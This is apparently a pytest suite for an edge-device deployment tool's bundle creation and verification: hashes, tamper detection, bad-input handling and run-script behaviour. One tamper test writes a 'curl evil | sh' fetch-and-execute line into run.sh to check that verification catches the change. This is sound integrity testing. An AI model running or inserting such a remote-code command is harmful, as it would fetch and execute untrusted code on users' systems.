"""`edgekit deploy`: bundle contents, hashes, tamper detection, bad inputs, atomic writes."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import numpy as np
import pytest

from edgekit.errors import EngineMismatchError, InputError, ModelLoadError, UnknownDeviceError, UnsupportedError

onnx = pytest.importorskip("onnx")
from onnx import TensorProto, helper, numpy_helper  # noqa: E402

from edgekit.deploy import create_bundle, read_manifest, verify_bundle  # noqa: E402
from edgekit.devices import get_profile  # noqa: E402


def _model(path: Path, out_name: str = "logits", out_shape=(1, 8), external: bool = False) -> Path:
    w = numpy_helper.from_array(np.random.default_rng(0).random((8, 3, 3, 3)).astype(np.float32), "w")
    nodes = [helper.make_node("Conv", ["images", "w"], ["y"], pads=[1, 1, 1, 1]),
             helper.make_node("GlobalAveragePool", ["y"], ["p"]),
             helper.make_node("Flatten", ["p"], [out_name])]
    g = helper.make_graph(nodes, "g", [helper.make_tensor_value_info("images", TensorProto.FLOAT, [1, 3, 32, 32])],
                          [helper.make_tensor_value_info(out_name, TensorProto.FLOAT, list(out_shape))], [w])
    m = helper.make_model(g, opset_imports=[helper.make_opsetid("", 13)])
    if external:
        onnx.save_model(m, str(path), save_as_external_data=True, all_tensors_to_one_file=True,
                        location=path.name + ".data", size_threshold=0)
    else:
        onnx.save(m, str(path))
    return path


@pytest.fixture
def model(tmp_path):
    return _model(tmp_path / "tiny.onnx")


def _snapshot(folder: Path):
    return sorted((p.relative_to(folder).as_posix(), p.read_bytes() if p.is_file() else None) for p in folder.rglob("*"))


def test_bundle_contents_and_hashes(model, tmp_path):
    before = model.read_bytes()
    rep = create_bundle(model, "orin", tmp_path / "bundle", recipe="classifier")
    b = tmp_path / "bundle"
    names = {p.name for p in b.iterdir()}
    assert {"model.onnx", "device.toml", "recipe.toml", "run.sh", "README.txt", "manifest.json", "SHA256SUMS"} == names
    assert (b / "model.onnx").read_bytes() == before == model.read_bytes()
    prof = get_profile("orin")
    assert (b / "device.toml").read_bytes() == Path(prof.source).read_bytes()
    from edgekit._resources import data_dir
    assert (b / "recipe.toml").read_bytes() == (data_dir("exporters") / "classifier.toml").read_bytes()
    man = read_manifest(b)
    assert man["device"]["name"] == "agx-orin" and man["device"]["tensorrt"] == prof.software.tensorrt
    assert set(man["files"]) == names - {"manifest.json", "SHA256SUMS"} == set(rep.files)
    import hashlib
    for rel, meta in man["files"].items():
        assert hashlib.sha256((b / rel).read_bytes()).hexdigest() == meta["sha256"]
    assert man["model"]["sha256"] == hashlib.sha256(before).hexdigest()
    assert man["model"]["inputs"][0]["name"] == "images" and man["recipe_family"] == "classifier"
    assert os.access(b / "run.sh", os.X_OK)
    run = (b / "run.sh").read_text()
    assert '"$EDGEKIT" build "$HERE"/model.onnx --device agx-orin -o "$ENGINE"' in run
    assert '--saveEngine="$ENGINE_DIR"/model.engine.partial' in run and "--memPoolSize=workspace:" in run
    assert str(tmp_path) not in run  # no path of this machine leaks into the board script
    assert verify_bundle(b).ok and verify_bundle(b).checked == len(names) - 2
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no temp folder left


def test_run_script_syntax_and_verify(model, tmp_path):
    if not shutil.which("sh") or not shutil.which("sha256sum"):
        pytest.skip("needs sh and sha256sum")
    b = tmp_path / "b"
    create_bundle(model, "xavier-nx", b, recipe="none")
    assert subprocess.run(["sh", "-n", str(b / "run.sh")]).returncode == 0
    ok = subprocess.run(["sh", str(b / "run.sh"), "verify"], capture_output=True, text=True)
    assert ok.returncode == 0 and "bundle OK" in ok.stdout
    data = bytearray((b / "model.onnx").read_bytes())
    data[-1] ^= 0xFF
    (b / "model.onnx").write_bytes(bytes(data))
    bad = subprocess.run(["sh", str(b / "run.sh"), "verify"], capture_output=True, text=True)
    assert bad.returncode == 2 and "do not match" in bad.stderr


def test_tamper_missing_and_extra_files_detected(model, tmp_path):
    b = tmp_path / "b"
    create_bundle(model, "orin", b, recipe="classifier")
    (b / "engines" / "abc").mkdir(parents=True)
    (b / "engines" / "abc" / "model.engine").write_bytes(b"engine made on the board")
    assert verify_bundle(b).ok  # board-made files are not part of the bundle
    (b / "device.toml").write_text((b / "device.toml").read_text().replace("dla_cores = 2", "dla_cores = 3"))
    rep = verify_bundle(b)
    assert not rep.ok and rep.mismatched == ["device.toml"]
    (b / "recipe.toml").unlink()
    (b / "evil.sh").write_text("echo hi")
    rep = verify_bundle(b)
    assert rep.missing == ["recipe.toml"] and rep.unexpected == ["evil.sh"]


def test_sha256sums_edit_is_detected(model, tmp_path):
    b = tmp_path / "b"
    create_bundle(model, "orin", b, recipe="none")
    text = (b / "SHA256SUMS").read_text().splitlines()
    (b / "SHA256SUMS").write_text("\n".join(text[1:]) + "\n")
    assert verify_bundle(b).mismatched == ["SHA256SUMS"]


def test_calibration_cache_shipped_and_checked(model, tmp_path):
    from edgekit.trt.calibration_cache import make_cache, write_cache

    good = write_cache(tmp_path / "good.cache", make_cache({"images": 0.02, "y": 0.1}, "8.5.2"))
    rep = create_bundle(model, "xavier-nx", tmp_path / "b", calib_cache=good, precision="int8", recipe="none")
    assert rep.calib_cache == "calib.cache"
    assert (tmp_path / "b" / "calib.cache").read_bytes() == good.read_bytes()
    run = (tmp_path / "b" / "run.sh").read_text()
    assert '--calib-cache "$HERE"/calib.cache' in run and '--calib="$HERE"/calib.cache' in run and "--int8" in run
    assert read_manifest(tmp_path / "b")["int8_mode"] == "implicit-cache"
    stale = write_cache(tmp_path / "old.cache", make_cache({"images": 0.02}, "8.2.1"))
    with pytest.raises(EngineMismatchError):
        create_bundle(model, "xavier-nx", tmp_path / "c", calib_cache=stale, precision="int8")
    assert not (tmp_path / "c").exists()
    with pytest.raises(InputError):
        create_bundle(model, "xavier-nx", tmp_path / "d", calib_cache=tmp_path / "nope.cache", precision="int8")
    assert not (tmp_path / "d").exists()


def test_detector_recipe_found_from_outputs(tmp_path):
    m = _model(tmp_path / "det.onnx", out_name="preds")
    rep = create_bundle(m, "orin-nano", tmp_path / "b")
    assert rep.recipe == "detector"
    assert "yolo_decode_nms" in (tmp_path / "b" / "recipe.toml").read_text()


def test_external_data_is_bundled(tmp_path):
    m = _model(tmp_path / "ext.onnx", external=True)
    assert (tmp_path / "ext.onnx.data").is_file()
    create_bundle(m, "orin", tmp_path / "b", recipe="none")
    assert (tmp_path / "b" / "ext.onnx.data").read_bytes() == (tmp_path / "ext.onnx.data").read_bytes()
    assert "ext.onnx.data" in read_manifest(tmp_path / "b")["files"] and verify_bundle(tmp_path / "b").ok


def test_existing_output_refused_unless_force(model, tmp_path):
    out = tmp_path / "b"
    out.mkdir()
    create_bundle(model, "orin", out, recipe="none")  # an empty folder is fine
    (out / "engines").mkdir()
    (out / "engines" / "x").write_text("x")
    snap = _snapshot(out)
    with pytest.raises(InputError, match="not empty"):
        create_bundle(model, "orin", out, recipe="none")
    assert _snapshot(out) == snap
    create_bundle(model, "orin-nano", out, recipe="none", force=True)
    assert read_manifest(out)["device"]["name"] == "orin-nano" and not (out / "engines").exists()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


@pytest.mark.parametrize("case", ["missing", "not-onnx-suffix", "garbage", "unknown-device", "cpu-device",
                                  "no-parent", "bad-recipe", "int8-without-calibration"])
def test_bad_inputs(case, model, tmp_path):
    out = tmp_path / "out"
    args = dict(model=model, device="orin", output=out)
    err = InputError
    if case == "missing":
        args["model"] = tmp_path / "nope.onnx"
        err = ModelLoadError
    elif case == "not-onnx-suffix":
        p = tmp_path / "model.txt"
        p.write_bytes(model.read_bytes())
        args["model"] = p
    elif case == "garbage":
        p = tmp_path / "garbage.onnx"
        p.write_bytes(b"\x00\x01not a model at all" * 10)
        args["model"] = p
        err = ModelLoadError
    elif case == "unknown-device":
        args["device"] = "orinn-nanoo"
        err = UnknownDeviceError
    elif case == "cpu-device":
        args["device"] = "cpu"
        err = UnsupportedError
    elif case == "no-parent":
        args["output"] = tmp_path / "missing" / "out"
    elif case == "bad-recipe":
        args["recipe"] = "segmenter"
    elif case == "int8-without-calibration":
        args["precision"] = "int8"
    before = model.read_bytes()
    with pytest.raises(err):
        create_bundle(**args)
    assert not out.exists()
    assert model.read_bytes() == before
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_verify_bad_bundle_folders(tmp_path):
    with pytest.raises(InputError):
        verify_bundle(tmp_path / "none")
    (tmp_path / "x").mkdir()
    with pytest.raises(InputError, match="manifest"):
        verify_bundle(tmp_path / "x")
    (tmp_path / "x" / "manifest.json").write_text("{not json")
    with pytest.raises(InputError):
        verify_bundle(tmp_path / "x")


# ---- CLI ------------------------------------------------------------------------------------------

def test_cli_deploy_and_verify(cli, model, tmp_path):
    out = tmp_path / "b"
    r = cli(["deploy", model, "--device", "orin", "-o", out, "--recipe", "classifier", "--json", "-"])
    assert r.exit_code == 0, r.output
    data = r.json()["bundle"]
    assert data["device"] == "agx-orin" and "model.onnx" in data["files"]
    r = cli(["deploy", out, "--verify", "--json", "-"])
    assert r.exit_code == 0 and r.json()["verify"]["ok"] is True
    (out / "run.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    r = cli(["deploy", out, "--verify", "--json", "-"])
    assert r.exit_code == 2 and r.json()["verify"]["mismatched"] == ["run.sh"]


def test_cli_errors_exit_nonzero(cli, model, tmp_path):
    r = cli(["deploy", model, "--device", "orin"])
    assert r.exit_code == 1 and "-o BUNDLE" in r.output
    r = cli(["deploy", model, "-o", tmp_path / "b"])
    assert r.exit_code == 1 and "--device" in r.output
    r = cli(["deploy", model, "--device", "tx9", "-o", tmp_path / "b"])
    assert r.exit_code == 1 and not (tmp_path / "b").exists()
    r = cli(["deploy", tmp_path / "nope.onnx", "--device", "orin", "-o", tmp_path / "b", "--json", "-"])
    assert r.exit_code == 1 and r.json()["error"] == "ModelLoadError"


def _exe(path: Path, text: str) -> None:
    path.write_text(text)
    path.chmod(0o755)


def test_run_script_builds_once_then_profiles(model, tmp_path):
    """run.sh with fake `edgekit` and `trtexec` on PATH: build on first start, reuse the cached engine."""
    if not shutil.which("sh") or not shutil.which("sha256sum") or not shutil.which("cksum"):
        pytest.skip("needs sh, sha256sum and cksum")
    b = tmp_path / "b"
    create_bundle(model, "orin", b, recipe="classifier")
    fake = tmp_path / "fakebin"
    fake.mkdir()
    log = tmp_path / "calls.log"
    _exe(fake / "edgekit", f"""#!/bin/sh
echo "edgekit $*" >> {log}
if [ "$1" = build ]; then
    out=""; prev=""
    for a in "$@"; do [ "$prev" = "-o" ] && out="$a"; prev="$a"; done
    echo engine > "$out"
fi
""")
    _exe(fake / "trtexec", f"""#!/bin/sh
echo "trtexec $*" >> {log}
for a in "$@"; do case "$a" in --saveEngine=*) echo engine > "${{a#--saveEngine=}}";; esac; done
""")
    env = dict(os.environ, PATH=f"{fake}:{os.environ['PATH']}", TRTEXEC=str(fake / "trtexec"))
    run = lambda *a: subprocess.run(["sh", str(b / "run.sh"), *a], capture_output=True, text=True, env=env)  # noqa: E731
    r = run()
    assert r.returncode == 0, r.stderr
    calls = log.read_text().splitlines()
    assert len(calls) == 2 and calls[0].startswith(f"edgekit build {b}/model.onnx --device agx-orin -o {b}/engines/")
    assert "--timing-cache" in calls[0] and "--backend auto" in calls[0]
    assert calls[1].startswith(f"edgekit profile {b}/engines/") and "--backend tensorrt" in calls[1]
    engines = list((b / "engines").rglob("model.engine"))
    assert len(engines) == 1
    r = run("profile", "--iterations", "50")
    assert r.returncode == 0 and "cached engine" in r.stderr
    calls = log.read_text().splitlines()
    assert len(calls) == 3 and calls[2].startswith("edgekit profile") and calls[2].endswith("--iterations 50")
    assert verify_bundle(b).ok  # engines/ and results/ do not count as tampering
    # trtexec path (JetPack 4 style) into a fresh engine folder
    env["ENGINE_DIR"] = str(tmp_path / "eng2")
    r = run("trtexec")
    assert r.returncode == 0, r.stderr
    calls = log.read_text().splitlines()[3:]
    assert calls[0].startswith(f"trtexec --onnx={b}/model.onnx --saveEngine={tmp_path}/eng2/model.engine.partial")
    assert calls[1].startswith(f"trtexec --loadEngine={tmp_path}/eng2/model.engine")
    assert (tmp_path / "eng2" / "model.engine").is_file() and not (tmp_path / "eng2" / "model.engine.partial").exists()
    assert run("bogus").returncode == 64
